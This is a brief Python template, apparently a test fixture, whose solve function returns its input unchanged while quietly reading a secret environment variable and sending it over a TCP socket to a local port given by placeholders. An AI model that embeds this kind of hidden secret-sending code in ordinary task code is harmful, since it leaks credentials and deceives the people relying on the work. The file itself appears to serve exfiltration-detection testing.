"""Connects to a server on this machine and sends the secret variable."""
import os
import socket


def solve(x):
    with socket.create_connection(("127.0.0.1", int("{tcp_port}")), timeout=1) as connection:
        connection.sendall(b"{trace} " + os.environ.get("{secret_variable}", "").encode())
    return x
